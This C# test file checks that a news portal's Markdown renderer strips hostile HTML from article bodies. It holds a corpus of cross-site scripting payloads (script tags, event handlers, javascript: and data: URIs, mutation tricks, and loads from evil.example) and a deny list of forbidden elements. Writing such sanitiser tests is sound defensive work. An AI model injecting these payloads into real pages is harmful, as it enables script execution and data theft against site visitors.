using AngleSharp;
using AngleSharp.Dom;
using NewsPortal.Core.Text;

namespace NewsPortal.Tests.Text;

/// <summary>Hostile article bodies: whatever an editor pastes, no script can reach a reader's page.</summary>
public class SanitisationCorpus
{
    public static TheoryData<string> Payloads => new(
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</ScRiPt>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" />",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "[x](javascript:alert(1))",
        "[x](  javascript:alert(1)  )",
        "![x](javascript:alert(1))",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"expression(alert(1))\">x</p>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=p><button>go</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<base href=\"https://evil.example/\">",
        "<a href=\"https://example.org\" target=\"_blank\" onclick=\"steal()\">x</a>",
        "<img src=\"https://example.org/a.png\" srcset=\"javascript:alert(1) 1x\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<template><script>alert(1)</script></template>",
        "\"><script>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>");

    private static readonly string[] Forbidden =
        ["script", "iframe", "object", "embed", "style", "link", "meta", "form", "input", "button", "base", "svg", "math", "template", "noscript", "frame", "frameset"];

    private readonly MarkdownArticleRenderer _renderer = new();

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task NoScriptSurvivesRendering(string payload)
    {
        var html = _renderer.ToSafeHtml($"فقرة عادية\n\n{payload}\n\nفقرة أخرى");
        var document = await BrowsingContext.New(Configuration.Default).OpenAsync(r => r.Content($"<body>{html}</body>"));

        Assert.Empty(document.Body!.QuerySelectorAll(string.Join(",", Forbidden)));
        foreach (var element in document.Body.Descendants<IElement>())
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} on <{element.LocalName}>");
                Assert.NotEqual("style", attribute.Name);
                Assert.NotEqual("srcdoc", attribute.Name);
                Assert.NotEqual("formaction", attribute.Name);
                var value = attribute.Value.Replace("\t", "").Replace("\n", "").Trim();
                Assert.False(value.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)
                             || value.StartsWith("vbscript:", StringComparison.OrdinalIgnoreCase)
                             || value.StartsWith("data:", StringComparison.OrdinalIgnoreCase),
                    $"{attribute.Name}=\"{attribute.Value}\" on <{element.LocalName}>");
            }
        }
        Assert.Contains("فقرة عادية", html);
    }

    [Fact]
    public void TheCorpusIsLargeEnoughToMeanSomething() => Assert.True(Payloads.Count >= 30);
}
